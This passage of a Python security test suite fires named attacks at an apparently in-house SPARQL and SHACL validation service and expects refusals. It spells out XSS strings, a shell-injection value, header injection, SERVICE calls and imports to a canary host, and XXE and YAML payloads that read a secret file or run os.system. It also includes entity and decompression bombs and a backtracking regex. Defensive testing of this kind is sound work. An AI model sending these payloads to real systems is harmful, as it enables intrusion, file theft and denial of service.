        "a kind of quotation marks", _post("/sparql", direct + ';"' * 15_000, b"ASK {}"), _FORM
    )
    for coding in ("gzip", "deflate", "br", "gzip, gzip", "identity, gzip"):
        bomb = _post("/sparql", direct, _BOMB, f"Content-Encoding: {coding}")
        yield Attack(f"a body packed as {coding}", bomb, _KIND)
    for path in ("/sparql", "/paths", "/", "/healthz", "/nowhere"):
        yield Attack(
            f"a body of 20 MB to {path}",
            _post(path, direct, b" " * 20_000_000),
            frozenset((404, 405, 413, CLOSED)),
        )
    yield Attack(
        "a number of a million digits",
        _asked(f"SELECT ({'9' * 1_000_000} AS ?x) {{}}"),
        frozenset((413,)),
    )
    yield Attack(
        "a body in pieces of a byte",
        _raw(
            _SPARQL,
            b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
            b"1\r\n \r\n" * 300_000,
            b"0\r\n\r\n",
        ),
        DROPPED,
    )
    yield Attack(
        "a kind accepted 5,000 times",
        _get(_ASK, "Accept: " + ", ".join(f"a/b{i};q=0.{i % 9}" for i in range(4_000))),
        frozenset((200, 400, 406, 431)),
    )
    for name, accept in (
        ("of quotation marks", 'a/b;c="' * 7_000),
        ("of commas", "," * 60_000),
        ("of stars", "*/*;q=0.1;" * 5_000),
        ("that is none", "\xff\xfe;;;===,,,"),
        ("of qualities", "text/csv;q=" + "0" * 50_000),
        ("of qualities that are none", "text/csv;q=nan, */*;q=inf, text/html;q=-1"),
    ):
        yield Attack(
            f"an Accept header {name}",
            _get(_ASK, f"Accept: {accept}"),
            frozenset((200, 406, 431)),
        )
    yield Attack(
        "a list of codings",
        _get(_ASK, "Accept-Encoding: " + "gzip;q=0.1," * 5_000),
        frozenset((200, 431)),
    )
    yield Attack(
        "a list of tags",
        _get(_ASK, "If-None-Match: " + '"aaaa", ' * 7_000),
        frozenset((200, 431)),
    )
    yield Attack(
        "hop-by-hop headers",
        _get(_ASK, "Connection: close, content-type, host", "TE: trailers, deflate;q=0.5"),
        frozenset((200,)),
    )
    yield Attack(
        "a forged address",
        _get(_ASK, "X-Forwarded-For: 10.0.0.1", "Forwarded: for=10.0.0.1", "X-Real-IP: ::1"),
        frozenset((200,)),
    )


_KIND = frozenset((415,))
_FORM = frozenset((200, 415, 431))

# -- names

_SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
_ODD_NAMES = {
    "a script": _SCRIPT,
    "another protocol": "javascript:alert(1)",
    "an injected triple": "x> . <urn:a> <urn:b> <urn:c",
    "an injected query": 'x" } SERVICE <CANARY/sparql> { ?s ?p ?o } #',
    "an injected update": "x> } ; DROP ALL #",
    "a template": "{{7*7}}${7*7}#{7*7}%s%n",
    "a shell": "$(id);`id`|id&&id",
    "lines of a header": "x\r\nSet-Cookie: a=b\r\n\r\n<p>",
    "a NUL": "a\x00b",
    "500 letters": "ab " * 160,
    "500 letters alike": "a" * 500,
    "too many letters": "a" * 5_000,
    "letters that fold": "ſſİıKÅ" * 20,
    "text that runs backwards": "\u202egpj.exe\u2066",
    "an IRI of a server": "CANARY/x",
    "an IRI of a file": "file://SECRET",
    "nothing": "",
    "a dot": ".",
    "slashes": "/" * 100,
    "a number": "9" * 400,
    "half a pair": "%ED%A0%80",
    "bad UTF-8": "%FF%FE%00",
}
_ROUTES = (
    "/things/NAME",
    "/queries/NAME",
    "/static/NAME",
    "/paths?from=NAME&to=NAME",
    "/paths?from=place/amirabad&to=place/seshcha&via=NAME&cursor=NAME",
    "/resolve?q=NAME",
    "/timeline?thing=NAME",
    "/conflicts?thing=NAME&kind=NAME",
    "/origins?thing=NAME",
    "/things/leg?view=NAME",
    "/id/NAME",
    "/claim/NAME",
    "/graph/NAME",
    "/graph?graph=NAME",
    "/graph?default&NAME",
    "/NAME",
)
_NUMBERS = (
    "/conflicts?skip=99999999999999999999999999&limit=500",
    "/conflicts?skip=-1",
    "/conflicts?limit=1000000000",
    "/conflicts?limit=1e9",
    f"/conflicts?limit={'9' * 10_000}",
    f"/conflicts?skip={'1_' * 4_000}1",
    "/paths?from=a&to=b&k=1000000000&max_hops=99",
)
_NAMED = frozenset((200, 400, 404, 405, 406, 414, 422, 431))


def _named() -> Iterator[Attack]:
    for name, text in _ODD_NAMES.items():
        for route in _ROUTES:
            made = _get(route.replace("NAME", _escaped(text)), "Accept: text/html")
            yield Attack(f"{name} as NAME in {route}", made, _NAMED)
    for path in _NUMBERS:
        yield Attack(f"a number: {path[:40]}", _get(path), frozenset((200, 400, 404, 422)))
    yield Attack("a script in a parameter's name", _get(f"/paths?{quote(_SCRIPT)}=x"), _NAMED)
    yield Attack("a script in a query", _get(f"/sparql?query={quote(_SCRIPT)}"), UNREADABLE)
    yield Attack(
        "a script in a graph's name",
        _get(f"/sparql?query=ASK%7B%7D&default-graph-uri={quote(_SCRIPT)}"),
        UNREADABLE,
    )
    yield Attack(
        "a script in a variable",
        _asked("SELECT ('<script>' AS ?a) { }", "Accept: text/html, */*"),
        EMPTY,
    )
    yield Attack(
        "a script in the Host", _raw(b"GET /docs/ HTTP/1.1\r\nHost: <script>\r\n", _END), _NAMED
    )


def _escaped(text: str) -> str:
    """The text in a URL; where it stands as it is, it is escaped already, or a token to replace."""
    if re.fullmatch(r"(%[0-9A-F]{2})+", text):
        return text
    return quote_plus(text, safe="").replace("+", "%20")


# -- what is sent to be validated

_SH = "@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> . "
_SHAPE = f"{_SH}<urn:s> a sh:NodeShape ; sh:targetSubjectsOf <urn:p> ; "
_ONE = "<urn:a> <urn:p> <urn:b> ."
_XML = "application/rdf+xml"
_JSONLD = "application/ld+json"
REFUSED_SHAPES = frozenset((422,))
UNTAKEN = frozenset((413, 422))
"""Told that it cannot be read, or that it is too long."""

_SHAPES = {
    "calls a server": f"{_SHAPE}sh:sparql [ sh:select 'SELECT $this {{ {_CALL} }}' ] .",
    "calls a server with an escaped letter": _SHAPE
    + r"sh:sparql [ sh:select 'SELECT $this { SERV\\u0049CE <CANARY/s> { $this ?p ?o } }' ] .",
    "call a server by a prefix": _SHAPE
    + "sh:sparql [ sh:prefixes <urn:o> ; sh:select 'SELECT $this { $this ?p ?o }' ] . <urn:o> "
    "sh:declare [ sh:prefix 'e: <urn:x> SELECT $this { SERVICE <CANARY/s> { $this ?p ?o } } #' ; "
    "sh:namespace 'urn:e' ] .",
    "call a server to find targets": f"{_SH}<urn:s> a sh:NodeShape ; sh:target [ a "
    f"sh:SPARQLTarget ; sh:select 'SELECT ?this {{ {_CALL} }}' ] .",
    "call a server in a rule": f"{_SHAPE}sh:rule [ a sh:SPARQLRule ; sh:construct "
    f"'CONSTRUCT {{ $this <urn:q> ?o }} WHERE {{ {_CALL} }}' ] .",
    "call a server in a component": f"{_SH}<urn:C> a sh:ConstraintComponent ; sh:parameter "
    f"[ sh:path <urn:q> ] ; sh:validator [ sh:ask 'ASK {{ {_CALL} }}' ] .",
    "import from a server": f"{_SHAPE}sh:nodeKind sh:IRI . <urn:x> owl:imports <CANARY/x.ttl> .",
    "import a file": f"{_SHAPE}sh:nodeKind sh:IRI . <urn:x> owl:imports <file://SECRET> .",
    "load script": f"{_SHAPE}sh:js [ sh:jsLibrary [ sh:jsLibraryURL 'CANARY/x.js' ] ] .",
    "read a file by FROM": _SHAPE  # noqa: S608 -- SPARQL, and meant
    + "sh:sparql [ sh:select 'SELECT $this FROM <file://SECRET> { $this ?p ?o }' ] .",
}
_LOADED = {
    "a context of a server": (_JSONLD, '{"@context": "CANARY/c", "a": 1}'),
    "a context in a file": (_JSONLD, '{"@context": "file://SECRET", "a": 1}'),
    "a context that imports": (_JSONLD, '{"@context": {"@import": "CANARY/c"}, "a": 1}'),
    "an entity of a file": (_XML, '<!DOCTYPE r [<!ENTITY a SYSTEM "file://SECRET">]><r>&a;</r>'),
    "an entity of a server": (_XML, '<!DOCTYPE r [<!ENTITY a SYSTEM "CANARY/e">]><r>&a;</r>'),
    "a document type of a server": (_XML, '<!DOCTYPE r SYSTEM "CANARY/d"><r/>'),
    "a file as a mapping": ("application/yaml", "!include SECRET"),
    "a call as a mapping": ("application/yaml", "!!python/object/apply:os.system ['cat SECRET']"),
}


def _bombs() -> Iterator[tuple[str, str, str]]:
    """What is short and means much: a name, a media type, a body."""
    entities = "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in pairwise("abcdefghijkl"))
    yield "entities of entities", _XML, f"<!DOCTYPE r [<!ENTITY a 'x'>{entities}]><r>&l;</r>"
    aliases = "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in pairwise("abcdefghijkl"))
    yield "aliases of aliases", "application/yaml", f"a: &a [x]\n{aliases}"
    yield "a deep list of YAML", "application/yaml", "a: " + "[" * 200_000
    yield "a deep map of YAML", "application/yaml", "{a: " * 100_000
    yield "deep JSON", _JSONLD, '{"a": ' * 100_000
    yield "deep lists of JSON", _JSONLD, '{"@id": "urn:a", "urn:b": ' + "[" * 100_000
    yield "deep XML", _XML, "<a:b xmlns:a='urn:a'>" * 50_000
    yield "deep Turtle", "text/turtle", "<urn:a> <urn:b> " + "[ <urn:b> " * 100_000
    yield "deep lists of Turtle", "text/turtle", "<urn:a> <urn:b> " + "( " * 100_000


def _by_shapes(shapes: str, data: str = _ONE) -> Callable[[Target], bytes]:
    part = '--x\r\nContent-Disposition: form-data; name="{}"\r\n\r\n{}\r\n'
    body = f"{part.format('data', data)}{part.format('shapes', shapes)}--x--\r\n"
    return _post("/validate", "multipart/form-data; boundary=x", body)


def _submitted() -> Iterator[Attack]:
    for name, shapes in _SHAPES.items():
        yield Attack(f"validates by shapes that {name}", _by_shapes(shapes), REFUSED_SHAPES)
    for name, (kind, body) in _LOADED.items():
        yield Attack(f"validates {name}", _post("/validate", kind, body), UNTAKEN)
    for name, kind, body in _bombs():
        # where it ends the worker, the next one answers
        yield Attack(f"validates {name}", _post("/validate", kind, body), UNTAKEN | {503, 504})
    for place in ("CANARY/x.ttl", "file://SECRET"):
        kind = "a server" if "CANARY" in place else "a file"
        said = f"<urn:a> <http://www.w3.org/2002/07/owl#imports> <{place}> ."
        yield Attack(f"validates imports of {kind}", _post("/validate", "text/turtle", said), EMPTY)
    text = "a" * 40 + "!"
    slow = f"{_SHAPE}sh:property [ sh:path <urn:p> ; sh:pattern '^(a+)+$' ] ."
    yield Attack(
        "validates by a pattern that backtracks",
        _by_shapes(slow, f"<urn:a> <urn:p> '{text}' ."),
        COSTLY,
    )
    deep = "".join(f"<urn:s{i}> sh:node <urn:s{i + 1}> . " for i in range(5_000))
    yield Attack(
        "validates by shapes in shapes",
        _by_shapes(f"{_SHAPE}sh:node <urn:s0> . {deep}"),
        COSTLY | {422},
    )
    many = "".join(f"<urn:a{i}> <urn:p> <urn:a{i + 1}> . " for i in range(3_000))
    paths = f"{_SHAPE}sh:property [ sh:path [ sh:zeroOrMorePath <urn:p> ] ; sh:maxCount 1 ] ."
    yield Attack("validates by a path of any length", _by_shapes(paths, many), COSTLY)
    product = f"{_SHAPE}sh:sparql [ sh:select 'SELECT $this {{ $this ?x ?y . {_ALL} }}' ] ."
    yield Attack("validates by a product of everything", _by_shapes(product, many), COSTLY | {422})
    yield Attack("validates too much", _post("/validate", "text/turtle", b"#" * 5_000_000), UNTAKEN)
    packed = _post(
        "/validate", "text/turtle", gzip.compress(b"#" * 10_000_000), "Content-Encoding: gzip"
    )
    yield Attack("validates what is packed", packed, frozenset((415,)))


ATTACKS: tuple[Attack, ...] = (
    *_elsewhere(),
    *_much(),
    *_unfit(),
    *_named(),
    *_submitted(),
)
"""Every attack."""


# -- how answers are read


def exchange(
    address: tuple[str, int], request: bytes, *, seconds: float, source: str = ""
) -> bytes | None:
    """All that comes back until the other side closes; None where it does not in that time."""
    ends = time.monotonic() + seconds
    received, rest = bytearray(), memoryview(request)
    with socket.create_connection(address, seconds, (source, 0) if source else None) as connection:
        connection.settimeout(0)
        while (left := ends - time.monotonic()) > 0:
            wanting = [connection] if rest else []
            readable, writable, _ = select.select([connection], wanting, [], left)
            try:
                if readable:
                    piece = connection.recv(1 << 18)
                    if not piece:
                        return bytes(received)
                    received += piece
                if writable:
                    rest = rest[connection.send(rest[: 1 << 18]) :]
            except ConnectionError:  # closed while more was being sent
                return bytes(received)
    return None


def answers(received: bytes, *, method: str = "GET") -> list[Answer]:
    """The answers in what was received; ValueError where one is cut short."""
    found = []
    while received:
        head, end, received = received.partition(b"\r\n\r\n")
        if not end:
            raise ValueError(f"the head of an answer is cut short: {head[:100]!r}")
        first, *lines = head.decode("latin-1").split("\r\n")
        version, status, *_ = first.split(" ")
        if version != "HTTP/1.1":
            raise ValueError(f"no answer begins with {first[:100]!r}")
        headers = dict(line.lower().split(": ", 1) for line in lines)
        if status == "100":
            continue
        body, received = _body(int(status), headers, received, method)
        found.append(Answer(int(status), headers, body))
    return found


def _body(
    status: int, headers: dict[str, str], received: bytes, method: str
) -> tuple[bytes, bytes]:
    if method == "HEAD" or status in (204, 304):
        return b"", received
    if "chunked" in headers.get("transfer-encoding", ""):
        return _chunks(received)
    length = int(headers["content-length"])
    if len(received) < length:
        raise ValueError(f"{length:,} bytes were promised and {len(received):,} came")
    return received[:length], received[length:]


def _chunks(received: bytes) -> tuple[bytes, bytes]:
    chunks, start = list[bytes](), 0
    while True:
        end = received.find(b"\r\n", start)
        length = int(received[start:end], 16) if end >= 0 else 0
        after = end + 2 + length
        if end < 0 or received[after : after + 2] != b"\r\n":
            raise ValueError(f"chunks are cut short, {len(received) - start:,} bytes after one")
        chunks.append(received[end + 2 : after])
        start = after + 2
        if not length:
            return b"".join(chunks), received[start:]


def told(answer: Answer) -> None:
    """Nothing, where the body is whole and what its Content-Type says; an error otherwise."""
    body, kind = answer.body, answer.headers.get("content-type", "").partition(";")[0]
    if answer.headers.get("content-encoding") == "gzip":
        body = gzip.decompress(body)
    if not body or kind in ("text/html", "text/css", "text/plain", "image/svg+xml"):
        return
    if kind.endswith("json"):
        json.loads(body)
    elif kind == "application/sparql-results+xml":
        ET.fromstring(body)  # noqa: S314 -- our own service wrote it
    elif kind in ("text/csv", "text/tab-separated-values"):
        _rows(body.decode(), "\t" if kind.startswith("text/tab") else ",")
    else:
        for _ in ox.parse(body, ox.RdfFormat.from_media_type(kind)):
            pass


def _rows(text: str, separator: str) -> None:
    quoting = QUOTE_NONE if separator == "\t" else QUOTE_MINIMAL
    rows = reader(text.splitlines(keepends=True), delimiter=separator, quoting=quoting)
    lengths = {len(row) for row in rows}
    if len(lengths) > 1:
        raise ValueError(f"rows of the answer have {sorted(lengths)} cells")
